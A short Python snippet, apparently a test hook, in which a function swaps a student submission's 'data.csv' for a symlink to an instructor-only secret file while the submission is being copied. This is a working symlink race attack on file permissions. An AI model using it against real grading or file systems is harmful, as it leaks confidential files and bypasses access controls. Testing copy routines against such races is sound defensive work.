"""While it is copied, a file becomes a link to one that only the instructor may read."""

import os
from pathlib import Path


def meanwhile(submission: Path) -> None:
    os.symlink("../../instructor/secret.txt", submission / "new")
    os.replace(submission / "new", submission / "data.csv")
